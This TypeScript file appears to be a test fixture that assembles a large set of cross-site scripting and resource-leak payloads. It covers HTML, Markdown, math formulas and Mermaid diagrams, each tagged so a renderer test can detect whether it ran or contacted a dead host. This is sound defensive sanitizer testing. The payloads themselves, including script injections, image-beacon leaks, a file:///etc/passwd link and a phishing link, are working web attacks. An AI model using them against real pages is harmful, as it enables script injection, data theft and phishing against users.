/** A host that no name server knows: whatever asks for it was let out of the page. */
export const leakHost = 'leak.invalid'

const run = 'RUN'
const leak = 'LEAK'

const hex = (text: string) =>
  [...text].map((character) => `&#x${character.codePointAt(0)?.toString(16)};`).join('')
const decimal = (text: string) =>
  [...text].map((character) => `&#${character.codePointAt(0)};`).join('')
const base64 = (text: string) => Buffer.from(text).toString('base64')

const script = `<script>${run}</script>`
/** Hidden from what numbers the payloads. */
const hiddenScript = base64('<script>opener.__ran(3)</script>')
const svg =
  '<svg xmlns="http://www.w3.org/2000/svg" onload="__ran(4)"><script>__ran(4)</script></svg>'

/** HTML that runs a script or asks for something as soon as it is parsed as such. */
const eager = [
  script,
  `<SCRIPT>${run}</SCRIPT>`,
  `<script src="http://${leak}/a.js"></script>`,
  `<script type="module">import "http://${leak}/m.js"</script>`,
  `<script/x>${run}</script>`,
  `<scr<script>ipt>${run}</script>`,
  `</script><script>${run}</script>`,
  `\\u003c/script\\u003e</script>${script}`,
  `"}]</script>${script}<!--`,
  `</title>${script}`,
  `</textarea>${script}`,
  `</style>${script}`,
  `--></noscript></template>${script}`,
  `"><img src=x onerror=${run}>`,
  `'><img src=x onerror=${run}>`,
  `<img src="http://${leak}/a.png">`,
  `<img src=x onerror="${run}">`,
  `<IMG SRC=x OnErRoR=${run}>`,
  `<img/src/onerror=${run}>`,
  `<img\tsrc=x\nonerror=${run}>`,
  `<img src=x onerror=${decimal('__ran(7)')}>`,
  `<img srcset="http://${leak}/a.png 1x, http://${leak}/b.png 2x">`,
  `<picture><source srcset="http://${leak}/a.webp"><img></picture>`,
  `<image src="http://${leak}/image.png">`,
  `<input type=image src="http://${leak}/button.png">`,
  `<body background="http://${leak}/back.png" onload="${run}">`,
  `<table background="http://${leak}/table.png"><tr><td>a</td></tr></table>`,
  `<div style="background:url(http://${leak}/style.png)">styled</div>`,
  `<style>@import "http://${leak}/import.css";</style>`,
  `<style>body{background:url('http://${leak}/css.png')}</style>`,
  `<link rel=stylesheet href="http://${leak}/a.css">`,
  `<link rel=preload as=image href="http://${leak}/preload.png">`,
  `<link rel=prefetch href="http://${leak}/prefetch.html">`,
  `<link rel=dns-prefetch href="//dns.${leakHost}">`,
  `<link rel=preconnect href="http://connect.${leakHost}">`,
  `<link rel=modulepreload href="http://${leak}/module.js">`,
  `<link rel=icon href="http://${leak}/icon.png">`,
  `<iframe src="http://${leak}/frame.html"></iframe>`,
  `<iframe src="javascript:parent.${run}"></iframe>`,
  `<iframe srcdoc="&lt;script&gt;parent.${run}&lt;/script&gt;"></iframe>`,
  `<iframe onload=${run}></iframe>`,
  `<object data="http://${leak}/object.html"></object>`,
  `<object data="data:image/svg+xml;base64,${base64('<svg/>')}" onload=${run}></object>`,
  `<embed src="http://${leak}/embed.html">`,
  `<frameset onload=${run}><frame src="http://${leak}/frame.html"></frameset>`,
  `<meta http-equiv=refresh content="0;url=http://${leak}/refresh">`,
  `<base href="http://${leak}/"><img src=based.png>`,
  `<form action="http://${leak}/form" id=sent><input name=a></form><script>document.forms.sent.submit()</script>`,
  `<svg onload=${run}></svg>`,
  `<svg/onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><script href="http://${leak}/svg.js"></script></svg>`,
  `<svg><image href="http://${leak}/svg.png" width=1 height=1></image></svg>`,
  `<svg><use href="http://${leak}/use.svg#a"></use></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s></svg>`,
  `<svg><style>@import "http://${leak}/svg.css"</style></svg>`,
  `<video src="http://${leak}/video.mp4" autoplay></video>`,
  `<video poster="http://${leak}/poster.png"></video>`,
  `<video><source onerror=${run} src=x></video>`,
  `<audio src="http://${leak}/audio.mp3" preload=auto></audio>`,
  `<audio src=x onerror=${run}></audio>`,
  `<input autofocus onfocus=${run}>`,
  `<details open ontoggle=${run}><summary>a</summary></details>`,
  `<marquee onstart=${run}>a</marquee>`,
  `<style>@keyframes k{}</style><b style="animation:k" onanimationstart=${run}>a</b>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${run}>`,
  `<math><mtext><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=${run} src=1>">`,
  `<svg></p><style><a id="</style><img src=x onerror=${run}>">`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${run} src>">`,
  `<template><s></template><img src=x onerror=${run}>`,
  `<listing>&lt;img onerror=${run} src=x&gt;</listing><img src=x onerror=${run}>`,
  `<!--><img src=x onerror=${run}>-->`,
  `<!-- --!><img src=x onerror=${run}> -->`,
  `<![CDATA[><img src=x onerror=${run}>]]>`,
  `<?xml version="1.0"?><img src=x onerror=${run}>`,
  `<x:script xmlns:x="http://www.w3.org/1999/xhtml">a</x:script>${script}`,
  `<div>\n${script}\n</div>`,
  `- item\n  <img src=x onerror=${run}>`,
  `> <iframe src="http://${leak}/quoted.html"></iframe>`,
  `# ${script}`,
  `| a | b |\n| - | :-: |\n| <img src=x onerror=${run}> | ![x](http://${leak}/cell.png) |`,
  `**<img src=x onerror=${run}>**`,
  `\`a\`<img src=x onerror=${run}>\`b\``,
]

/** HTML that waits for a person, or that would be in the way of the page's own scripts and forms. */
const patient = [
  `<a href="javascript:${run}">click</a>`,
  `<a href="http://${leak}/ping" ping="http://${leak}/ping">click</a>`,
  `<button onclick=${run}>click</button>`,
  `<button formaction="javascript:${run}" form=composer>send</button>`,
  `<form id=getElementById><input name=cookie><input name=body></form>`,
  `<a id=__NEXT_DATA__></a><a id=__next_f name=push href="cid:x">a</a>`,
  `<img name=currentScript><img name=createElement>`,
  `<a id=defaultView name=location href="javascript:${run}">x</a>`,
  `<dialog open><form method=dialog>a</form></dialog>`,
  `<plaintext>all that follows`,
  `<div onclick=${run} contenteditable popover>a</div>`,
  `<div style="position:fixed;inset:0;z-index:9999">covers the page</div>`,
  `<isindex type=image src=1 onerror=${run}>`,
  `<xss onpointerenter=${run} style="font-size:500px">a</xss>`,
]

const schemes = [
  `[a](javascript:${run})`,
  `[a](JaVaScRiPt:${run})`,
  `[a](javascript&colon;${run})`,
  `[a](javascript&#58;${run})`,
  `[a](java&Tab;script:${run})`,
  `[a](java&NewLine;script:${run})`,
  `[a](&#1;javascript:${run})`,
  `[a](${hex('javascript:__ran(1)')})`,
  `[a](${decimal('javascript:__ran(2)')})`,
  `[a](<java\tscript:${run}>)`,
  `[a](<  javascript:${run}>)`,
  `[a](\\javascript:${run})`,
  `[a](java\\script:${run})`,
  `[a](javascript%3A${run})`,
  `[a](javascript://http://${leak}/%0a${run})`,
  `[a](vbscript:msgbox(1))`,
  `[a](livescript:${run})`,
  `[a](data:text/html,<script>${run}</script>)`,
  `[a](data:text/html;base64,${hiddenScript})`,
  `[a](data:image/svg+xml;base64,${base64(svg)})`,
  `[a](blob:http://${leak}/1)`,
  `[a](file:///etc/passwd)`,
  `[a](filesystem:http://${leak}/x)`,
  `[a](view-source:http://${leak}/)`,
  `[a](intent://${leak}#Intent;scheme=http;end)`,
  `[a](/api/threads)`,
  `[a](//${leak}/relative)`,
  `[a](\\\\\\\\${leak}/unc)`,
  `[a](#getElementById)`,
  `[a](http://user:password@${leak}/)`,
  `[http://bank.example](http://${leak}/phishing)`,
  `[a](http://${leak}/ "title\\" onmouseover=\\"${run}")`,
  `[a](http://${leak}/"onmouseover="${run})`,
  `[a](http://${leak}/'onmouseover='${run})`,
  `[a][x]\n\n[x]: javascript:${run} "title"`,
  `[x]\n\n[x]: <javascript:${run}>`,
  `[__proto__]\n\n[__proto__]: javascript:${run}`,
  `[a]: http://${leak}/def "unused"`,
  `<javascript:${run}>`,
  `<http://${leak}/auto>`,
  `<data:text/html,${run}>`,
  `http://${leak}/literal and www.${leak} and javascript:${run}`,
  `someone@${leakHost}`,
  `[a](mailto:a@${leakHost}?subject=<script>${run}</script>)`,
  `[![a](http://${leak}/nested.png)](javascript:${run})`,
  `[![a](http://${leak}/nested.png)](http://${leak}/nested)`,
  `[a](javascript:${run}`,
  `Text[^1] and[^__proto__].\n\n[^1]: [a](javascript:${run})\n[^__proto__]: <img src=x onerror=${run}>`,
  `[^"><img src=x onerror=${run}>]: a`,
]

const pictures = [
  `![a](http://${leak}/a.png)`,
  `![a](https://${leak}/a.png?q=what-was-said)`,
  `![a](//${leak}/a.png)`,
  `![a](javascript:${run})`,
  `![a"onerror="${run}](x)`,
  `![a](x"onerror="${run})`,
  `![a](http://${leak}/a.png "title\\"onload=\\"${run}")`,
  `![a](data:image/svg+xml;base64,${base64(svg)})`,
  `![a](data:image/svg+xml;utf8,${encodeURIComponent(svg)})`,
  `![a](data:text/html;base64,${hiddenScript})`,
  `![a](DATA:IMAGE/SVG+XML;base64,${base64(svg)})`,
  `![a](data:image/png;base64,${base64(svg)})`,
  `![a][p]\n\n[p]: http://${leak}/reference.png`,
  `![<img src=x onerror=${run}>](http://${leak}/alt.png)`,
  `![a](/api/export)`,
  `![a](blob:http://${leak}/1)`,
  `![a](file:///etc/passwd)`,
  `![`.repeat(60) + `a` + `](http://${leak}/deep.png)`.repeat(60),
]

const odd = [
  '```"><img src=x onerror=RUN>\ncode\n```',
  '```js onload=RUN class="x"\n</code></pre><script>RUN</script>\n```',
  '~~~<script>RUN</script>\na\n~~~',
  '`<img src=x onerror=RUN>`',
  '    <script>RUN</script>',
  '${RUN} #{RUN} {{RUN}} {{constructor.constructor("RUN")()}} <%= RUN %>',
  '$$\\href{javascript:RUN}{x}$$ \\unicode{<img src=x onerror=RUN>}',
  '{"__proto__":{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=RUN>"}},"constructor":{"prototype":{"a":1}}}',
  '$Sreact.element $undefined $L1 $@2 @1:"$1" 0:["$","script",null,{"children":"RUN"}]',
  'self.__next_f.push([1,"</script><script>RUN</script>"])',
  '\u202Egnp.exe.LEAK\u202C and \u2066isolated\u2069 and \u202Dforced',
  '\u202E\u202E\u202E\u2067\u2068 never closed',
  '\u2028RUN\u2029RUN\u0085',
  '<\uFEFF\u200Bscript>RUN</script>',
  '＜script＞RUN＜/script＞',
  '+ADw-script+AD4-RUN+ADw-/script+AD4-',
  '%3Cscript%3ERUN%3C/script%3E',
  '&lt;script&gt;RUN&lt;/script&gt;',
  '&amp;lt;img src=x onerror=RUN&amp;gt;',
  '\x1b]8;;http://LEAK/osc\x07link\x1b]8;;\x07',
  '- [ ] <input onfocus=RUN autofocus>\n- [x] [a](javascript:RUN)',
  '1. a\n\n   ![a](http://LEAK/list.png)',
  '\r\nX-Injected: 1\r\n\r\n<script>RUN</script>',
  `${'A'.repeat(20_000)}<script>RUN</script>`,
  `${'<b>'.repeat(500)}<img src=x onerror=RUN>`,
  `${'> '.repeat(100)}<script>RUN</script>`,
  `[${'a'.repeat(3000)}](javascript:${'/'.repeat(3000)};RUN)`,
  `${'\u0300'.repeat(500)}a<img src=x onerror=RUN>`,
]

/** Formulas that would lead, load, run, grow without end or cover the page. */
const formulas = [
  String.raw`$\href{javascript:RUN}{x}$ and \(\url{http://LEAK/url}\)`,
  String.raw`$$\includegraphics[height=1em]{http://LEAK/graphics.png}$$`,
  String.raw`$\htmlStyle{background:url(http://LEAK/style)}{x}$`,
  String.raw`$\htmlClass{fixed inset-0 z-50}{x}$ $\htmlId{cookie}{x}$ $\htmlData{a=b}{x}$`,
  String.raw`$\text{<img src=x onerror=RUN>}$ $\text{</annotation></math><script>RUN</script>}$`,
  String.raw`$\color{red;background:url(http://LEAK/colour)}x$ $\textcolor{#f00"onload="RUN}{x}$`,
  String.raw`\[\def\a{\a\a}\a\] \[\newcommand\b[1]{#1#1\b{#1}}\b{x}\]`,
  String.raw`$$\rule{9999em}{9999em}\raisebox{9999em}{x}\kern-9999em$$`,
  '```math\n\\href{javascript:RUN}{x}</code><script>RUN</script>\n```',
]

const mermaid = (source: string) => `\`\`\`mermaid\n${source}\n\`\`\``

/** Diagrams that would do the same while they are drawn. */
const diagrams = [
  `graph TD\n  A["<img src=x onerror=${run}>"] --> B["<script>${run}</script>"]`,
  `graph TD\n  A --> B\n  click A "javascript:${run}"\n  click B call __ran(1)`,
  `graph TD\n  A --> B\n  click A "http://${leak}/click" _self`,
  `graph TD\n  A@{ img: "http://${leak}/shape.png", label: "a", w: 60, h: 60 }`,
  `graph TD\n  A@{ "i\\u006dg": "http://${leak}/escaped.png", w: 60, h: 60 }`,
  `graph TD\n  A --> B\n  style A fill:url(http://${leak}/fill)`,
  `graph TD\n  A:::c\n  classDef c background:u\\72l(http://${leak}/class)`,
  `%%{init: {"themeCSS": ".node{background:url(http://${leak}/theme)} @import 'http://${leak}/import'"}}%%\ngraph TD\n  A --> B`,
  `%%{init: {"securityLevel": "loose", "htmlLabels": true, "flowchart": {"htmlLabels": true}}}%%\ngraph TD\n  A["<img src='http://${leak}/label.png' onerror=${run}>"]`,
  `---\nconfig:\n  securityLevel: loose\n  fontFamily: "x;} * {background:u\\72l(http://${leak}/font)"\n---\ngraph TD\n  A --> B`,
  `sequenceDiagram\n  A->>B: <img src="http://${leak}/message.png">\n  link A: x @ javascript:${run}`,
  `classDiagram\n  class A["<svg onload=${run}>"]\n  link A "http://${leak}/class"`,
  `pie title <script>${run}</script>\n  "<img src=x onerror=${run}>" : 1`,
  `graph TD\n  A["$$\\href{javascript:${run}}{x}$$"] --> B`,
  `no diagram at all <script>${run}</script>`,
].map(mermaid)

/** Markdown that takes in all that follows it, wherever a payload is not alone. */
const unclosed = [
  `<!-- never closed ${script}`,
  `<![CDATA[ never closed ${script}`,
  `<script>${run};`,
  `<style>*{background:url(http://${leak}/open.png)}`,
  `<textarea>${script}`,
  `<pre>\n<img src=x onerror=${run}>`,
  '```html\n<img src=x onerror=RUN>',
  '````<svg onload=RUN>\n```\n![a](http://LEAK/fence.png)',
]

/** What neither the database nor a model's stream can hold; Skein takes it out. */
const unstorable = [
  `<scr\0ipt>${run}</scr\0ipt>`,
  `[a](java\0script:${run})`,
  `<img src=x \0onerror=${run}>`,
]

let count = 0
/** Each payload says by its number that it ran, or asks for an address with it. */
const arm = (texts: readonly string[]): string[] =>
  texts.map((text) => {
    count += 1
    return text.replaceAll(run, `__ran(${count})`).replaceAll(leak, `${leakHost}/${count}`)
  })

/** HTML that acts by itself in a page that takes it for its own. */
export const eagerHtml: readonly string[] = arm(eager)
/** How many payloads are diagrams. */
export const diagramCount = diagrams.length
const closed = [
  ...eagerHtml,
  ...arm([...patient, ...schemes, ...pictures, ...odd, ...formulas, ...diagrams]),
]
const openEnded = arm(unclosed)

/** All that the database can hold. */
export const payloads: readonly string[] = [...closed, ...openEnded]

const perText = 12
const chunks = Array.from({ length: Math.ceil(closed.length / perText) }, (_, n) =>
  closed.slice(n * perText, (n + 1) * perText),
)
/** All of them as few texts, those that take in what follows them at the ends. */
export const payloadTexts: readonly string[] = [...chunks, ...arm(unstorable).map((text) => [text])]
  .map((chunk, n) => [...chunk, ...openEnded.slice(n, n + 1)])
  .map((chunk) => chunk.join('\n\n'))
